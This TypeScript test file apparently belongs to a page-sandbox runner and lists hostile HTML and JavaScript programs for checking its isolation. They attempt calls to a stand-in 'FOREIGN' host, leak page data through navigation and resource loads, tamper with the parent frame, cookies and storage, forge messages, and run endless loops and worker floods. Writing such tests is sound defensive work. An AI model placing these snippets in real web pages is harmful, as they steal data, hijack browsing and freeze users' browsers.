import type { HostileProgram } from './hostile.ts';

const script = (code: string) => `<!doctype html><h1>صفحة</h1><script>${code}</script>`;
const attempt = (code: string) => `try { ${code} } catch (error) { console.log(String(error)) }`;

export const hostilePages: HostileProgram[] = [
  {
    name: 'calls of every kind from a page',
    code: script(`for (const address of ['API', 'FOREIGN']) {
      ${attempt("fetch(address, { mode: 'no-cors' }).catch(() => 0)")}
      ${attempt("navigator.sendBeacon(address, 'x')")}
      ${attempt("const x = new XMLHttpRequest(); x.open('POST', address); x.send('x')")}
      ${attempt('new EventSource(address)')}
      ${attempt("new WebSocket(address.replace('http', 'ws'))")}
      ${attempt('import(address).catch(() => 0)')}
      ${attempt("fetch(address, { keepalive: true, method: 'POST', body: 'x' }).catch(() => 0)")}
    }`),
  },
  {
    name: 'pictures, styles, fonts, media and frames that carry data away',
    code: `<!doctype html><link rel="stylesheet" href="FOREIGN"><link rel="preload" as="image" href="FOREIGN">
      <link rel="prefetch" href="FOREIGN"><link rel="manifest" href="FOREIGN"><link rel="icon" href="FOREIGN">
      <style>@import 'FOREIGN'; @font-face { font-family: x; src: url('FOREIGN') }
      body { font-family: x; background: url('FOREIGN'); cursor: url('FOREIGN'), auto }</style>
      <img src="FOREIGN"><img srcset="FOREIGN 2x"><video src="FOREIGN" poster="FOREIGN"></video><audio src="FOREIGN"></audio>
      <iframe src="FOREIGN"></iframe><iframe src="API"></iframe><object data="FOREIGN"></object><embed src="FOREIGN">
      <svg><image href="FOREIGN"/><use href="FOREIGN#a"/></svg><input type="image" src="FOREIGN"><script src="FOREIGN"></script>`,
  },
  {
    name: 'the page around it: document, storage, functions',
    code: script(`${attempt("parent.document.body.innerHTML = ''")} ${attempt("top.document.title = 'stolen'")}
      ${attempt("parent.parent.localStorage.setItem('stolen', '1')")} ${attempt('top.runners.opened = null')}
      ${attempt('parent.frames[0].document.cookie')}`),
  },
  {
    name: 'navigation of the page around it',
    code: script(`${attempt("top.location = 'FOREIGN'")} ${attempt("parent.location = 'FOREIGN'")}
      ${attempt("top.location.replace('API')")} ${attempt("open('FOREIGN', '_top')")} ${attempt('top.close()')}`),
  },
  {
    name: 'links and forms that lead the page away',
    code: `<!doctype html><a id="a" href="FOREIGN" target="_top" ping="FOREIGN">x</a><a id="b" href="API" target="_parent">y</a>
      <form id="f" action="FOREIGN" target="_top" method="post"><input name="x" value="1"></form>
      <script>for (const id of ['a', 'b']) document.getElementById(id).click(); document.getElementById('f').submit()</script>`,
  },
  { name: 'navigation of itself', code: script(attempt("location = 'FOREIGN?' + document.title")) },
  { name: 'navigation of itself to the API', code: script(attempt("location = 'API'")) },
  {
    name: 'meta refresh',
    code: '<!doctype html><meta http-equiv="refresh" content="0;url=FOREIGN">',
  },
  {
    name: 'a base address',
    code: '<!doctype html><base href="FOREIGN/"><img src="x.png"><script src="x.js"></script><a id="a" href="y">y</a><script>document.getElementById("a").click()</script>',
  },
  {
    name: 'a form that sends itself',
    code: '<!doctype html><form action="API" method="post"><input name="x" value="1"></form><script>document.forms[0].submit(); document.forms[0].requestSubmit()</script>',
  },
  {
    name: 'popups',
    code: script(`${attempt("open('FOREIGN')")} ${attempt("open('about:blank').document.write('x')")}
      ${attempt("Object.assign(document.createElement('a'), { href: 'FOREIGN', target: '_blank' }).click()")}
      ${attempt("document.body.appendChild(document.createElement('iframe')).contentWindow.open('FOREIGN')")}`),
  },
  {
    name: 'downloads',
    code: script(`const a = document.createElement('a'); a.download = 'stolen.exe'; a.href = URL.createObjectURL(new Blob(['x']));
      for (let i = 0; i < 20; i += 1) a.click(); a.href = 'FOREIGN'; a.click()`),
  },
  {
    name: 'alerts, questions and printing without end',
    code: script(`${attempt('for (let i = 0; i < 100_000; i += 1) { alert(i); confirm(i) }')} ${attempt('print()')}
      ${attempt("Window.prototype.alert?.call(window, 'x')")}
      ${attempt("document.body.appendChild(document.createElement('iframe')).contentWindow.alert(1)")}`),
    ends: ['done', 'too-much-output'],
  },
  {
    name: 'a service worker',
    code: script(`${attempt("navigator.serviceWorker.register('/service-worker.js').catch((e) => console.log(String(e)))")}
      ${attempt('navigator.serviceWorker.getRegistrations().then((all) => all.forEach((one) => one.unregister())).catch(() => 0)')}`),
  },
  {
    name: 'cookies and storage of every kind from a page',
    code: script(`${attempt("document.cookie = 'stolen=1;path=/'")} ${attempt('localStorage.stolen = 1')}
      ${attempt('sessionStorage.stolen = 1')} ${attempt("indexedDB.open('stolen')")}
      ${attempt("caches.open('stolen').catch(() => 0)")} ${attempt("cookieStore.set('stolen', '1').catch(() => 0)")}
      ${attempt('document.requestStorageAccess().catch(() => 0)')}`),
  },
  {
    name: 'WebRTC',
    code: `<!doctype html><iframe srcdoc="<script>try { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) } catch (e) {}</script>"></iframe>
      <script>${attempt("const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))")}</script>`,
  },
  {
    name: 'history of the tab',
    code: script(
      `${attempt('history.back()')} ${attempt('history.go(-2)')} ${attempt("history.pushState({}, '', '/stolen')")} ${attempt('top.history.back()')}`,
    ),
  },
  {
    name: 'frames in the frame',
    code: `<!doctype html><iframe srcdoc="<script>try { top.document.title = 'stolen' } catch (e) {} try { fetch('API') } catch (e) {} try { localStorage.stolen = 1 } catch (e) {} location = 'FOREIGN'</script>"></iframe>
      <iframe src="data:text/html,<script>fetch('FOREIGN')</script>"></iframe><iframe src="javascript:fetch('FOREIGN')"></iframe>`,
  },
  {
    name: 'workers of a page',
    code: script(`const address = URL.createObjectURL(new Blob(["fetch('FOREIGN'); for (;;) {}"]));
      ${attempt('for (let i = 0; i < 200; i += 1) new Worker(address)')} ${attempt('new SharedWorker(address)')}`),
  },
  {
    name: 'messages forged to the frame and to the page',
    code: script(`for (const to of [parent, top]) {
        to.postMessage('nibras-runner', '*'); to.postMessage({ type: 'end', id: 1, result: {} }, '*');
        to.postMessage({ type: 'output', stream: 'out', text: 'forged' }, '*'); to.postMessage({ secret: '', type: 'loaded' }, '*');
      }`),
    prints: '',
  },
  {
    name: 'a flood of messages from a page',
    code: script(
      "setInterval(() => { for (let i = 0; i < 2000; i += 1) { parent.postMessage('x', '*'); top.postMessage('x', '*') } }, 1)",
    ),
    ends: ['done', 'too-much-output'],
  },
  {
    name: 'an endless loop in a page',
    code: '<p>x</p><script>while (true) {}</script>',
    timeout: 3_000,
    ends: ['failed', 'timed-out'],
  },
  {
    name: 'an endless loop that eval hides from the guard',
    code: script("eval('while (true) {}')"),
    ends: ['failed'],
  },
  {
    name: 'elements without end',
    code: script("for (;;) document.body.append(document.createElement('div'))"),
    timeout: 3_000,
    ends: ['failed', 'timed-out'],
  },
  {
    name: 'place, camera, clipboard and full screen',
    code: script(`${attempt('navigator.geolocation.getCurrentPosition(() => 0, () => 0)')}
      ${attempt('navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => 0)')}
      ${attempt('navigator.clipboard?.readText().catch(() => 0)')} ${attempt('document.body.requestFullscreen().catch(() => 0)')}`),
  },
  {
    name: 'our guard and console replaced',
    code: script(`${attempt('nibrasLoop = () => 0')} ${attempt("Object.defineProperty(window, 'nibrasLoop', { value: 0 })")}
      console.log = null; for (let i = 0; i < 10; i += 1);`),
  },
];
